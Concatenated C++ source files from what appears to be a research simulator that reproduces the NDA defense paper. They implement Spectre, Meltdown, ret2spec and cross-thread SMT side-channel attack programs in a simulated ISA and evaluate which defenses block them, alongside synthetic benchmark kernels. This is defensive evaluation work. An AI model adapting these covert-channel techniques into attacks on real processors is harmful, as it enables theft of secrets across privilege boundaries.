#define NDASIM_ATTACKS_COVERT_CHANNEL_HH

#include "common/types.hh"
#include "isa/program.hh"

namespace nda {

/** Memory-layout conventions for the attack programs. */
namespace attack_layout {

/** Probe array: 256 slots, one cache line every 512 bytes. */
inline constexpr Addr kProbeBase = 0x2000000;
inline constexpr unsigned kProbeStride = 512;

/** Per-guess recovered timings: 256 x 8 bytes. */
inline constexpr Addr kResultsBase = 0x3000000;

/** Victim data (arrays, bounds, pointers). */
inline constexpr Addr kVictimBase = 0x1000000;

/** Kernel-only page holding the Meltdown secret. */
inline constexpr Addr kKernelSecret = 0x4000000;

/** Table of 256 target-function pointers (BTB covert channel). */
inline constexpr Addr kTargetTable = 0x5000000;

/** Victim array base (bounds-checked accesses index into this). */
inline constexpr Addr kVictimArray = kVictimBase;
/** Address holding the victim's bounds value (16). */
inline constexpr Addr kBoundAddr = kVictimBase + 0x100;
/** Out-of-bounds index such that array[kSecretDelta] is the secret. */
inline constexpr std::int64_t kSecretDelta = 0x200;
/** Address of the in-victim-memory secret byte. */
inline constexpr Addr kSecretAddr = kVictimArray + kSecretDelta;

/**
 * Rendezvous words for the cross-thread (SMT co-residency) attacks.
 * The attacker (hardware thread 1) opens a measurement window by
 * writing the probed bit index, the window polarity, and finally the
 * monotonically increasing window number to kSmtFlag; the victim
 * (hardware thread 0) acknowledges via kSmtAck right before launching
 * its mis-speculated gadget, so the attacker's timed section overlaps
 * the victim's speculation window deterministically.
 */
inline constexpr Addr kSmtSyncBase = 0x6000000;
inline constexpr Addr kSmtFlag = kSmtSyncBase;      ///< window open (attacker)
inline constexpr Addr kSmtAck = kSmtSyncBase + 8;   ///< gadget launched (victim)
inline constexpr Addr kSmtBit = kSmtSyncBase + 16;  ///< secret bit probed
inline constexpr Addr kSmtWant = kSmtSyncBase + 24; ///< window polarity (0/1)

/** Per-window fresh-miss regions for the MSHR-occupancy channel. */
inline constexpr Addr kSmtMissBase = 0x7000000;
/** Attacker-private probe lines (one fresh line per window). */
inline constexpr Addr kSmtProbeBase = 0x7800000;

} // namespace attack_layout

/**
 * Register conventions used by the emitters below. Attack code keeps
 * scratch registers in r1-r17, link registers r28-r30, loop counters
 * r18-r19, and leaves r20-r27 for attack-specific state.
 */
struct CovertChannelRegs {
    RegId scratch0 = 1;
    RegId scratch1 = 2;
    RegId scratch2 = 3;
    RegId scratch3 = 4;
    RegId counter = 18;
    RegId limit = 19;
};

/** Emit code flushing all 256 probe-array lines (channel init). */
void emitProbeFlush(ProgramBuilder &b);

/**
 * Emit the cache-channel recovery loop (paper Listing 1 lines 13-20):
 * for each guess, time a load of probe[guess * 512] with RDTSC and
 * store the cycle count to results[guess].
 */
void emitCacheRecoverLoop(ProgramBuilder &b);

/** Declare the probe/results segments on the builder. */
void declareChannelSegments(ProgramBuilder &b);

/**
 * Emit the transmit gadget body (paper Listing 1 line 9): given the
 * secret byte in `secret_reg`, compute probe + secret*512 and load it.
 * Clobbers r15-r17.
 */
void emitCacheTransmit(ProgramBuilder &b, RegId secret_reg);

/**
 * Emit 12 data-dependent branches keyed off `salt_reg`, randomizing
 * the global branch history so each subsequent mistrained branch is
 * predicted from a fresh (untrained) gshare slot. This is the
 * history-scrambling trick real Spectre PoCs use to keep a repeated
 * attack branch mispredicting. Clobbers r6, r7, r9.
 */
void emitHistoryScramble(ProgramBuilder &b, RegId salt_reg);

} // namespace nda

#endif // NDASIM_ATTACKS_COVERT_CHANNEL_HH
