/**
 * @file
 * The speculative-execution-attack PoC suite (paper §3, Table 1):
 *
 *  Control-steering attacks (access phase steers victim control flow):
 *   - SpectreV1Cache : bounds-check bypass, d-cache channel (Listing 1)
 *   - SpectreV1Btb   : bounds-check bypass, BTB channel (Listing 3)
 *   - SpectreV2      : indirect-branch target injection (BTB aliasing)
 *   - Ret2Spec       : return-address mis-steering via the RAS
 *   - SpectreSsb     : Spectre v4, speculative store bypass
 *   - SpectreGpr     : hypothetical GPR-resident-secret leak (paper §4.2)
 *
 *  Chosen-code attacks (attacker-authored code, implementation flaw):
 *   - Meltdown       : user-mode read of kernel memory (Listing 2)
 *   - LazyFp         : privileged-special-register read (LazyFP / v3a)
 *
 *  Cross-thread attacks (co-resident SMT attacker, per-thread NDA):
 *   - SmotherPort    : SMoTherSpectre-style execution-port contention
 *   - MshrContention : shared-MSHR occupancy back-pressure timing
 */

#ifndef NDASIM_ATTACKS_ATTACKS_HH
#define NDASIM_ATTACKS_ATTACKS_HH

#include "attacks/attack_base.hh"

namespace nda {

class SpectreV1Cache : public AttackBase
{
  public:
    std::string name() const override { return "spectre-v1-cache"; }
    std::string description() const override
    {
        return "bounds check bypass, d-cache covert channel";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "d-cache"; }
    Program build(std::uint8_t secret) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

class SpectreV1Btb : public AttackBase
{
  public:
    std::string name() const override { return "spectre-v1-btb"; }
    std::string description() const override
    {
        return "bounds check bypass, BTB covert channel (paper SS3)";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "btb"; }
    double signalThreshold() const override { return 5.0; }
    Program build(std::uint8_t secret) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

class SpectreV11 : public AttackBase
{
  public:
    std::string name() const override { return "spectre-v1.1"; }
    std::string description() const override
    {
        return "speculative buffer overflow steers via SQ forwarding";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "d-cache"; }
    Program build(std::uint8_t secret) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

class SpectreV2 : public AttackBase
{
  public:
    std::string name() const override { return "spectre-v2"; }
    std::string description() const override
    {
        return "indirect branch target injection via BTB aliasing";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "d-cache"; }
    Program build(std::uint8_t secret) const override;
    void adjustConfig(SimConfig &cfg) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

class Ret2Spec : public AttackBase
{
  public:
    std::string name() const override { return "ret2spec"; }
    std::string description() const override
    {
        return "return-address mis-steering via RAS";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "d-cache"; }
    Program build(std::uint8_t secret) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

class SpectreSsb : public AttackBase
{
  public:
    std::string name() const override { return "spectre-v4-ssb"; }
    std::string description() const override
    {
        return "speculative store bypass reads stale secret";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "d-cache"; }
    Program build(std::uint8_t secret) const override;
    void declareSecrets(SecretMap &secrets) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

class SpectreGpr : public AttackBase
{
  public:
    std::string name() const override { return "spectre-gpr"; }
    std::string description() const override
    {
        return "leak of a GPR-resident secret (paper SS4.2)";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "d-cache"; }
    Program build(std::uint8_t secret) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

class Meltdown : public AttackBase
{
  public:
    std::string name() const override { return "meltdown"; }
    std::string description() const override
    {
        return "user-mode read of kernel memory (Listing 2)";
    }
    bool isChosenCode() const override { return true; }
    std::string channel() const override { return "d-cache"; }
    Program build(std::uint8_t secret) const override;
    void declareSecrets(SecretMap &secrets) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

/**
 * SMoTherSpectre-style cross-thread attack: the victim's wrong path
 * executes a secret-bit-keyed burst of multiplies; a co-resident SMT
 * attacker times its own multiply chain through the shared (single)
 * mul/div issue port. The channel needs no cache mutation at all, so
 * InvisiSpec does not block it — NDA's propagation policies do,
 * because the burst's operands never wake up.
 */
class SmotherPort : public AttackBase
{
  public:
    std::string name() const override { return "smother-port"; }
    std::string description() const override
    {
        return "cross-thread SMT execution-port contention timing";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "port-contention"; }
    bool crossThread() const override { return true; }
    Program build(std::uint8_t secret) const override;
    void adjustConfig(SimConfig &cfg) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

/**
 * Cross-thread MSHR-occupancy attack: the victim's wrong path fires a
 * secret-bit-keyed burst of fresh-line loads that saturates the
 * shared L1D MSHR file; the co-resident attacker times its own miss,
 * which gets structurally rejected while the file is full. InvisiSpec
 * *does* block this one (shadow loads peek without allocating an
 * MSHR), as do NDA's propagation policies and load restriction.
 */
class MshrContention : public AttackBase
{
  public:
    std::string name() const override { return "smt-mshr"; }
    std::string description() const override
    {
        return "cross-thread shared-MSHR occupancy back-pressure";
    }
    bool isChosenCode() const override { return false; }
    std::string channel() const override { return "mshr-contention"; }
    bool crossThread() const override { return true; }
    Program build(std::uint8_t secret) const override;
    void adjustConfig(SimConfig &cfg) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

class LazyFp : public AttackBase
{
  public:
    std::string name() const override { return "lazyfp-v3a"; }
    std::string description() const override
    {
        return "privileged special-register read (LazyFP / v3a)";
    }
    bool isChosenCode() const override { return true; }
    std::string channel() const override { return "d-cache"; }
    Program build(std::uint8_t secret) const override;
    void declareSecrets(SecretMap &secrets) const override;
    bool expectedBlocked(const SecurityConfig &cfg) const override;
};

} // namespace nda

#endif // NDASIM_ATTACKS_ATTACKS_HH
