/**
 * @file
 * Meltdown — paper Listing 2. Chosen-code attack: a user-mode load of
 * kernel memory forwards its value to dependents before the permission
 * fault is delivered at retirement. The dependent chain transmits the
 * value through the d-cache; the architectural fault lands in the
 * attacker's handler, which runs the recovery loop.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

Program
Meltdown::build(std::uint8_t secret) const
{
    ProgramBuilder b("meltdown");
    declareChannelSegments(b);
    b.segment(kKernelSecret, {secret}, MemPerm::kKernel);

    // The kernel line is warm (the kernel touched it recently) —
    // standard Meltdown precondition.
    b.movi(1, static_cast<std::int64_t>(kKernelSecret));
    b.prefetch(1, 0);
    emitProbeFlush(b);
    b.fence();

    // (1) access: the faulting load.
    b.movi(10, static_cast<std::int64_t>(kKernelSecret));
    b.load(11, 10, 0, 1);            // faults at commit
    // (2) transmit: executes in the fault's shadow.
    emitCacheTransmit(b, 11);
    // Padding the fault window (the attacker's nops).
    for (int i = 0; i < 8; ++i)
        b.nop();
    b.halt(); // not reached: the fault redirects to the handler

    // (3) recover, in the fault handler.
    auto handler = b.label();
    b.faultHandlerAt(handler);
    emitCacheRecoverLoop(b);
    b.halt();
    return b.build();
}

void
Meltdown::declareSecrets(SecretMap &secrets) const
{
    secrets.addMemRange(kKernelSecret, 1, "kernel-page");
}

bool
Meltdown::expectedBlocked(const SecurityConfig &cfg) const
{
    if (!cfg.meltdownFlaw)
        return true; // fixed hardware: nothing to leak
    // Only load restriction (rows 5-6) and InvisiSpec-Future block
    // chosen-code attacks; propagation policies don't (Table 2).
    return cfg.loadRestriction ||
           cfg.invisiSpec == InvisiSpecMode::kFuture;
}

} // namespace nda
