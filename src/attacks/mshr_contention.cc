/**
 * @file
 * Cross-thread MSHR-occupancy attack.
 *
 * Victim wrong path (behind the mistrained bounds check):
 *     secret = array[x];
 *     p = missRegion(window, x) + (secret & 0);   // address taint only
 *     beacon: load p (always — one tainted fresh-line miss)
 *     if (((secret >> bit) & 1) == want)
 *         6 more fresh-line loads p+512 .. p+3072  // saturate the file
 *
 * With a 4-entry shared L1D MSHR file, the burst (plus the in-flight
 * bound load) saturates the file, so the co-resident attacker's own
 * fresh-line miss is structurally rejected and retries until a fill
 * frees an entry — occupancy back-pressure the attacker times. The
 * squash does not revert the occupancy (fills land orphaned), which
 * is exactly why it is a channel.
 *
 * The burst addresses carry a *dead* data dependence on the secret
 * ((secret & 0) == 0), so NDA's propagation policies block the attack
 * at the source — the address never becomes ready — without the
 * address *value* depending on the secret. InvisiSpec blocks it too:
 * shadow loads peek the hierarchy without allocating an MSHR entry.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"
#include "attacks/smt_channel.hh"

namespace nda {

using namespace attack_layout;

Program
MshrContention::build(std::uint8_t secret) const
{
    ProgramBuilder b("smt-mshr");
    SmtWindowPlan plan;
    plan.roundsPerBit = 2;
    plan.margin = 40;

    // Fresh-line regions: window number (<<12) keeps rounds disjoint;
    // the gadget argument x (<<13) separates the in-bounds training
    // region (x = 5) from the wrong-path region (x = kSecretDelta) so
    // training never warms the lines the burst must miss on.
    b.zeroSegment(kSmtMissBase, 0x30000);
    b.zeroSegment(kSmtMissBase + (kSecretDelta << 13), 0x28000);
    // Attacker probe lines, one per window (40 windows fit easily).
    b.zeroSegment(kSmtProbeBase, 64 * 64);

    auto gadget = [](ProgramBuilder &pb, ProgramBuilder::Label vend) {
        pb.andi(15, 14, 0);              // 0, but tainted by the secret
        pb.shli(16, 21, 12);             // fresh region per window
        pb.movi(17, static_cast<std::int64_t>(kSmtMissBase));
        pb.add(16, 16, 17);
        pb.shli(17, 10, 13);             // training/attack split by x
        pb.add(16, 16, 17);
        pb.add(16, 16, 15);              // dead secret dep: NDA's target
        pb.load(15, 16, 0, 8);           // beacon miss (always)
        pb.shr(8, 14, 22);
        pb.andi(8, 8, 1);                // probed secret bit
        pb.cmpeq(17, 8, 23);             // == window polarity?
        pb.movi(8, 0);
        pb.beq(17, 8, vend);
        for (int i = 1; i <= 6; ++i)
            pb.load(15, 16, 512 * i, 8); // burst: saturate the MSHRs
    };

    auto probe = [](ProgramBuilder &pb, RegId acc) {
        pb.movi(7, static_cast<std::int64_t>(kSmtProbeBase));
        pb.shli(8, 18, 6);               // fresh probe line per window
        pb.add(7, 7, 8);
        pb.rdtsc(4);
        // Chain the address off the rdtsc so out-of-order run-ahead
        // cannot launch the miss before the measured window opens,
        // then delay a little more: if the victim's bit-check branch
        // mispredicts, the burst starts ~25 cycles late, and probing
        // too early would grab an MSHR entry before the burst fills
        // the file. Occupancy persists for a full fill latency, so a
        // late probe is strictly safer than an early one.
        pb.andi(9, 4, 0);
        for (int i = 0; i < 16; ++i)
            pb.addi(9, 9, 0);
        pb.add(7, 7, 9);
        pb.load(5, 7, 0, 8);             // rejected while the file is full
        pb.rdtsc(6);                     // serializes until the load retires
        pb.sub(5, 6, 4);
        pb.add(acc, acc, 5);
    };

    return buildSmtAttackProgram(b, secret, plan, gadget, probe);
}

void
MshrContention::adjustConfig(SimConfig &cfg) const
{
    cfg.core.smtThreads = 2;
    cfg.memory.mshrEntries = 4;      // small shared file: easy to fill
    cfg.perThreadSecurity = true;
    cfg.security1 = SecurityConfig{};
}

bool
MshrContention::expectedBlocked(const SecurityConfig &cfg) const
{
    // Propagation and load restriction stop the burst addresses from
    // ever waking; InvisiSpec's shadow loads peek without allocating
    // an MSHR entry, so it blocks this channel too (unlike the
    // port-contention attack).
    return cfg.propagation != NdaPolicy::kNone || cfg.loadRestriction ||
           cfg.invisiSpec != InvisiSpecMode::kOff;
}

} // namespace nda
