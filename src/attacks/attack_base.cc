#include "attacks/attack_base.hh"

#include <algorithm>

#include "attacks/covert_channel.hh"
#include "common/log.hh"
#include "core/core_factory.hh"
#include "dift/taint_engine.hh"

namespace nda {

void
AttackBase::declareSecrets(SecretMap &secrets) const
{
    secrets.addMemRange(attack_layout::kSecretAddr, 1, "victim-secret");
}

void
AttackBase::recoverByTiming(const CoreBase &core, AttackResult &result)
{
    std::array<double, 256> times{};
    for (int g = 0; g < 256; ++g) {
        times[g] = static_cast<double>(core.mem().read(
            attack_layout::kResultsBase + static_cast<Addr>(g) * 8, 8));
    }
    result.timings = times;

    result.fastestGuess = static_cast<int>(
        std::min_element(times.begin(), times.end()) - times.begin());

    std::array<double, 256> sorted = times;
    std::nth_element(sorted.begin(), sorted.begin() + 128, sorted.end());
    const double median = sorted[128];
    result.signal = median - times[result.secret];
    result.margin = result.signal - result.threshold;
}

AttackResult
AttackBase::run(const SimConfig &cfg, std::uint8_t secret,
                Cycle max_cycles) const
{
    SimConfig attack_cfg = cfg;
    adjustConfig(attack_cfg);

    const Program prog = build(secret);

    // The DIFT oracle watches the same run the timing channel probes.
    SecretMap secrets;
    declareSecrets(secrets);
    TaintEngine dift(secrets);

    auto core = makeCore(prog, attack_cfg);
    core->attachDift(&dift);
    core->run(~std::uint64_t{0}, max_cycles);
    NDA_ASSERT(core->halted(), "attack '%s' did not halt in %llu cycles",
               name().c_str(),
               static_cast<unsigned long long>(max_cycles));

    AttackResult result;
    result.secret = secret;
    result.cycles = core->cycle();
    result.threshold = signalThreshold();
    recoverByTiming(*core, result);
    result.oracle = dift.report();
    return result;
}

} // namespace nda
