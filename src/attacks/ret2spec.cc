/**
 * @file
 * ret2spec-style attack: the victim function's return address is
 * corrupted (stack-smash analog via the link register), so the RAS
 * predicts a return to the original call site while the actual return
 * goes elsewhere. The attacker arranges a transmit gadget at the
 * mispredicted location; it executes on the wrong path for as long as
 * the (slow) corrupted return address takes to resolve.
 */

#include "attacks/attacks.hh"
#include "attacks/covert_channel.hh"

namespace nda {

using namespace attack_layout;

namespace {
/** Cell holding the corrupted return address (flushed -> slow). */
constexpr Addr kRetSlot = kVictimBase + 0x800;
} // namespace

Program
Ret2Spec::build(std::uint8_t secret) const
{
    ProgramBuilder b("ret2spec");
    declareChannelSegments(b);
    b.segment(kSecretAddr, {secret});

    auto main_l = b.futureLabel();
    b.jmp(main_l);

    // --- victim function F ------------------------------------------------
    auto victim = b.label();
    b.movi(19, static_cast<std::int64_t>(kRetSlot));
    b.load(20, 19, 0, 8);            // corrupted return addr (slow)
    b.mov(30, 20);                   // overwrite the link register
    b.ret(30);                       // RAS predicts call-site + 1

    // --- recovery landing point E (the actual return target) -----------
    const Addr recover_pc = b.here();
    b.word(kRetSlot, recover_pc);
    emitCacheRecoverLoop(b);
    b.halt();

    // --- main ------------------------------------------------------------------
    b.bind(main_l);
    b.movi(1, static_cast<std::int64_t>(kSecretAddr));
    b.prefetch(1, 0);
    emitProbeFlush(b);
    b.movi(1, static_cast<std::int64_t>(kRetSlot));
    b.clflush(1, 0);
    b.fence();
    b.call(30, victim);
    // Wrong-path gadget at the predicted return target: read the
    // secret and transmit it. Architecturally never reached.
    b.movi(9, static_cast<std::int64_t>(kSecretAddr));
    b.load(14, 9, 0, 1);             // (1) access
    emitCacheTransmit(b, 14);        // (2) transmit
    b.halt();                        // unreachable
    return b.build();
}

bool
Ret2Spec::expectedBlocked(const SecurityConfig &cfg) const
{
    return cfg.propagation != NdaPolicy::kNone || cfg.loadRestriction ||
           cfg.invisiSpec != InvisiSpecMode::kOff;
}

} // namespace nda
