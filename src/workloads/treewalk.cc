/**
 * @file
 * Binary-search-tree descent (gcc/perlbench pointer-and-branch mix):
 * each level is a dependent load feeding a 50/50 data-dependent
 * branch that selects the next child pointer. Late-resolving,
 * poorly-predictable branches — the adversarial case for strict
 * propagation (paper Fig 7's high-overhead benchmarks).
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kNodes = 0x2A000000;
constexpr unsigned kNumNodes = 64 * 1024; // 1.5 MiB of 24-byte nodes
constexpr unsigned kNodeBytes = 24;       // key, left, right

class TreeWalk : public Workload
{
  public:
    TreeWalk() : Workload("treewalk", "602.gcc") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        // Random binary tree laid out by heap index with random keys.
        std::vector<std::uint64_t> words(kNumNodes * 3);
        for (unsigned i = 0; i < kNumNodes; ++i) {
            const auto addr_of = [](unsigned idx) {
                return kNodes + static_cast<Addr>(idx) * kNodeBytes;
            };
            words[i * 3] = rng.next() & 0xFFFFFFFF; // key
            const unsigned l = 2 * i + 1;
            const unsigned r = 2 * i + 2;
            words[i * 3 + 1] =
                l < kNumNodes ? addr_of(l) : addr_of(0);
            words[i * 3 + 2] =
                r < kNumNodes ? addr_of(r) : addr_of(0);
        }

        ProgramBuilder b("treewalk");
        b.segment(kNodes, packWords(words));
        b.movi(1, kNodes);                // current node
        b.movi(2, 0);                     // checksum
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        // fresh pseudo-random search key each step
        b.muli(3, 18, 0x9E3779B97F4A7C15LL);
        b.shri(4, 3, 31);
        b.andi(4, 4, 0xFFFFFFFF);
        b.load(5, 1, 0, 8);               // node->key
        b.add(2, 2, 5);
        auto go_right = b.futureLabel();
        auto next = b.futureLabel();
        b.bltu(5, 4, go_right);           // ~50/50, resolves late
        b.load(1, 1, 8, 8);               // node = node->left
        b.jmp(next);
        b.bind(go_right);
        b.load(1, 1, 16, 8);              // node = node->right
        b.bind(next);
        // restart from the root every 14 levels (predictable)
        b.andi(6, 18, 15);
        b.movi(7, 14);
        auto no_reset = b.futureLabel();
        b.bltu(6, 7, no_reset);
        b.movi(1, kNodes);
        b.bind(no_reset);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeTreeWalk()
{
    return std::make_unique<TreeWalk>();
}

} // namespace nda
