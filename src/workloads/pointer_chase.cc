/**
 * @file
 * Pointer-chase kernel (mcf-like): serial dependent loads over an
 * 8 MiB linked structure (DRAM-resident), with a highly-biased
 * value-dependent branch. Stresses dependent-load latency; MLP ~= 1.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kNodeBase = 0x10000000;
constexpr unsigned kNodeBytes = 64;
constexpr unsigned kNumNodes = 32 * 1024; // 2 MiB: L2-resident

class PointerChase : public Workload
{
  public:
    PointerChase() : Workload("ptrchase", "605.mcf") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);

        // Random single-cycle permutation (Sattolo's algorithm).
        std::vector<std::uint32_t> next(kNumNodes);
        for (std::uint32_t i = 0; i < kNumNodes; ++i)
            next[i] = i;
        for (std::uint32_t i = kNumNodes - 1; i > 0; --i) {
            const auto j =
                static_cast<std::uint32_t>(rng.below(i));
            std::swap(next[i], next[j]);
        }

        std::vector<std::uint64_t> words(kNumNodes * (kNodeBytes / 8));
        for (std::uint32_t i = 0; i < kNumNodes; ++i) {
            const std::size_t base = i * (kNodeBytes / 8);
            words[base] = kNodeBase +
                          static_cast<Addr>(next[i]) * kNodeBytes;
            // ~3% of nodes carry a "large" value (rarely-taken branch).
            words[base + 1] =
                rng.chance(3, 100) ? 5000 + rng.below(100)
                                   : rng.below(900);
        }

        ProgramBuilder b("ptrchase");
        b.segment(kNodeBase, packWords(words));
        // Small L1-resident cost table consulted per node (the "work"
        // mcf does per arc).
        constexpr Addr kCostTable = kNodeBase - 0x10000;
        {
            XRandom trng(seed + 7);
            std::vector<std::uint64_t> costs(512);
            for (auto &c : costs)
                c = trng.below(4096);
            b.segment(kCostTable, packWords(costs));
        }
        b.movi(1, kNodeBase);
        b.movi(2, 0);                // accumulator
        b.movi(13, kCostTable);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        b.load(3, 1, 0, 8);          // node->next (serial chain)
        b.load(4, 1, 8, 8);          // node->value
        b.add(2, 2, 4);
        // per-node work: two cost lookups + arithmetic
        b.andi(6, 4, 511 * 8);
        b.andi(6, 6, ~7LL);
        b.add(7, 13, 6);
        b.load(8, 7, 0, 8);          // cost[value & mask] (L1)
        b.load(9, 7, 8, 8);
        b.mul(10, 8, 9);
        b.shri(10, 10, 5);
        b.add(2, 2, 10);
        b.movi(5, 1000);
        auto skip = b.futureLabel();
        b.bltu(4, 5, skip);          // ~97% taken
        b.addi(2, 2, 7);
        b.bind(skip);
        b.mov(1, 3);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makePointerChase()
{
    return std::make_unique<PointerChase>();
}

} // namespace nda
