/**
 * @file
 * Record-filter kernel (database/leela-like branch-dense scan): read
 * 16-byte records from an L1/L2-resident table and apply a cascade of
 * mostly-predictable predicates, each branching on just-loaded data.
 * With a conditional branch every ~4 instructions whose source is a
 * fresh load, essentially every load completes under an unresolved
 * branch — the SPEC-like density that gives NDA's *permissive* policy
 * its cost (paper Table 2 row 1).
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kRecords = 0x30000000;
constexpr unsigned kNumRecords = 8 * 1024; // 128 KiB of 16 B records

class Filter : public Workload
{
  public:
    Filter() : Workload("filter", "641.leela(scan)") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> words(kNumRecords * 2);
        for (unsigned i = 0; i < kNumRecords; ++i) {
            words[i * 2] = rng.below(1000);        // key
            words[i * 2 + 1] = rng.below(1 << 20); // value
        }

        ProgramBuilder b("filter");
        b.segment(kRecords, packWords(words));
        b.movi(1, kRecords);
        b.movi(2, 0);                     // selected count
        b.movi(3, 0);                     // value sum
        b.movi(15, (kNumRecords - 1) * 16);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        b.shli(4, 18, 4);
        b.and_(4, 4, 15);
        b.add(5, 1, 4);
        b.load(6, 5, 0, 8);               // key
        // predicate 1: key < 900 (~90% taken)
        b.movi(7, 900);
        auto reject = b.futureLabel();
        b.bgeu(6, 7, reject);
        // predicate 2: key != 123 (~99.9% taken)
        b.movi(8, 123);
        b.beq(6, 8, reject);
        b.load(9, 5, 8, 8);               // value (only if selected)
        // predicate 3: value below threshold (~75% taken)
        b.movi(10, 786432);               // 0.75 * 2^20
        auto big = b.futureLabel();
        b.bgeu(9, 10, big);
        b.add(3, 3, 9);
        b.bind(big);
        b.addi(2, 2, 1);
        b.bind(reject);
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeFilter()
{
    return std::make_unique<Filter>();
}

} // namespace nda
