/**
 * @file
 * Radix-sort counting pass (x264/xz-style integer mix): stream keys,
 * extract a digit, and increment an in-memory 256-entry count table.
 * The load-modify-store on a data-dependent address creates the
 * store-queue bypass pressure NDA's Bypass Restriction pays for.
 */

#include "common/xrandom.hh"
#include "workloads/workload.hh"

namespace nda {

namespace {

constexpr Addr kKeys = 0x27000000;
constexpr Addr kCounts = 0x27800000;
constexpr unsigned kNumKeys = 128 * 1024; // 1 MiB

class RadixSort : public Workload
{
  public:
    RadixSort() : Workload("radixsort", "557.xz(int)") {}

    Program
    build(std::uint64_t seed) const override
    {
        XRandom rng(seed * 2 + 1);
        std::vector<std::uint64_t> keys(kNumKeys);
        for (auto &w : keys)
            w = rng.next();

        ProgramBuilder b("radixsort");
        b.segment(kKeys, packWords(keys));
        b.zeroSegment(kCounts, 256 * 8);
        b.movi(1, kKeys);
        b.movi(2, kCounts);
        b.movi(15, (kNumKeys - 1) * 8);
        b.movi(18, 0);
        b.movi(19, 1'000'000'000);
        auto loop = b.label();
        b.shli(3, 18, 3);
        b.and_(3, 3, 15);                 // wrap the key stream
        b.add(4, 1, 3);
        b.load(5, 4, 0, 8);               // key (sequential)
        b.andi(6, 5, 0xFF);               // digit
        b.shli(6, 6, 3);
        b.add(7, 2, 6);
        b.load(8, 7, 0, 8);               // count[digit]
        b.addi(8, 8, 1);
        b.store(7, 0, 8, 8);              // count[digit]++
        b.addi(18, 18, 1);
        b.bltu(18, 19, loop);
        b.halt();
        return b.build();
    }
};

} // namespace

std::unique_ptr<Workload>
makeRadixSort()
{
    return std::make_unique<RadixSort>();
}

} // namespace nda
