/**
 * @file
 * Workload interface and registry. SPEC CPU 2017 (paper §6.1) is
 * proprietary, so the evaluation uses 14 synthetic kernels that span
 * the same behaviour space: branch density and predictability, load
 * density, memory footprint (L1/L2/DRAM-resident), dependent-load
 * chains, and inherent ILP. Each kernel names the SPEC workload
 * family whose behaviour it substitutes (see DESIGN.md §4).
 */

#ifndef NDASIM_WORKLOADS_WORKLOAD_HH
#define NDASIM_WORKLOADS_WORKLOAD_HH

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "isa/program.hh"

namespace nda {

/** A deterministic, seedable benchmark kernel. */
class Workload
{
  public:
    Workload(std::string name, std::string spec_analog)
        : name_(std::move(name)), specAnalog_(std::move(spec_analog))
    {
    }

    virtual ~Workload() = default;

    /** Kernel name (used in Fig 7 rows). */
    const std::string &name() const { return name_; }

    /** SPEC CPU 2017 workload family this kernel substitutes. */
    const std::string &specAnalog() const { return specAnalog_; }

    /**
     * Build the program with data derived from `seed`. Programs run
     * for a very large number of iterations; the harness bounds
     * execution by instruction count.
     */
    virtual Program build(std::uint64_t seed) const = 0;

  private:
    std::string name_;
    std::string specAnalog_;
};

class XRandom;

/** `len` deterministic pseudo-random bytes. */
std::vector<std::uint8_t> randomBytes(XRandom &rng, std::size_t len);

/** Little-endian encode 64-bit words into a byte vector. */
std::vector<std::uint8_t> packWords(const std::vector<std::uint64_t> &ws);

/** The full evaluation suite in Fig 7 row order. */
std::vector<std::unique_ptr<Workload>> makeAllWorkloads();

/** Build one workload by name; nullptr if unknown. */
std::unique_ptr<Workload> makeWorkload(const std::string &name);

// Individual factories (one per kernel family).
std::unique_ptr<Workload> makePointerChase();
std::unique_ptr<Workload> makeStream();
std::unique_ptr<Workload> makeBranchy();
std::unique_ptr<Workload> makeGameTree();
std::unique_ptr<Workload> makeCompute();
std::unique_ptr<Workload> makeHashJoin();
std::unique_ptr<Workload> makeRadixSort();
std::unique_ptr<Workload> makeCompress();
std::unique_ptr<Workload> makeStencil();
std::unique_ptr<Workload> makeTreeWalk();
std::unique_ptr<Workload> makeCrc();
std::unique_ptr<Workload> makeStrProc();
std::unique_ptr<Workload> makeMatMul();
std::unique_ptr<Workload> makeMixed();
std::unique_ptr<Workload> makeInterp();
std::unique_ptr<Workload> makeFilter();

